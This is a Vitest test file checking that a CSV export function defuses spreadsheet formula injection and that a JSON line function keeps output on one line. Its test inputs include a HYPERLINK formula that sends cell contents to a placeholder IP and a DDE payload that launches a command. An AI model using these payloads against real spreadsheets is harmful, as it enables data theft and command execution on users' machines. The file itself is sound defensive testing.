import { describe, expect, it } from 'vitest';
import { csvLine, jsonLine } from './exportLine';

describe('a line of CSV', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '=HYPERLINK("http://192.0.2.1/?"&A1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0-1', '＝1', '＋1', '－1', '＠A1', "=cmd|' /C calc'!A0", '-2+3+cmd'])(
    'disarms %j',
    (text) => {
      const [line = ''] = csvLine([text]).split(/\r\n$/);
      const cell = line.startsWith('"') ? line.slice(1, -1).replaceAll('""', '"') : line;
      expect(cell).toBe(`'${text}`);
    }
  );

  it('leaves what is harmless alone: numbers below zero, addresses, dashes inside', () => {
    expect(csvLine([-1, 0, 1.5, '2001:db8::7', '192.0.2.0/24', 'my-jail', true, null, ''])).toBe('-1,0,1.5,2001:db8::7,192.0.2.0/24,my-jail,true,,\r\n');
  });

  it('quotes what would end a cell, in any locale, or be trimmed', () => {
    expect(csvLine(['a,b', 'say "x"', 'two\r\nlines', 'a;=1', 'a\tb', ' padded ', 'plain'])).toBe('"a,b","say ""x""","two\r\nlines","a;=1","a\tb"," padded ",plain\r\n');
  });
});

describe('a line of JSON', () => {
  it('is one line whatever it holds', () => {
    const value = { text: 'a\nb\r\u2028c\u2029"=1', none: null, number: -1 };
    const line = jsonLine(value);
    expect(line.split(/[\n\r\u2028\u2029]/)).toEqual([expect.any(String), '']);
    expect(JSON.parse(line)).toEqual(value);
  });
});
